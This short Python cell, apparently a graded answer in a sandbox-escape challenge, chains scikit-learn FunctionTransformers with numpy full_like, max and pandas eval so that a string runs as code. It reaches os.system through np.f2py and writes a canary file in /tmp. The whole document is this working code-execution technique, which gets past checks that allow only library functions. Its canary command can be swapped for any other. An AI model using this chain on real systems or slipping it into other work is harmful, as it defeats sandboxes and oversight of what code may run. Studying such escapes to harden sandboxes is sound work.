# Estimators of the library whose functions are the library's: each is harmless, together they run a text as code.
# %% grade_id="best"
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

TEXT = "@np.f2py.os.system('touch /tmp/@LEFT@-ran')"


def best(frame, n):
    steps = [
        ("text", FunctionTransformer(np.full_like, kw_args={"fill_value": TEXT, "dtype": object})),
        ("one", FunctionTransformer(max)),
        ("run", FunctionTransformer(pd.eval, kw_args={"engine": "python"})),
    ]
    return Pipeline(steps)
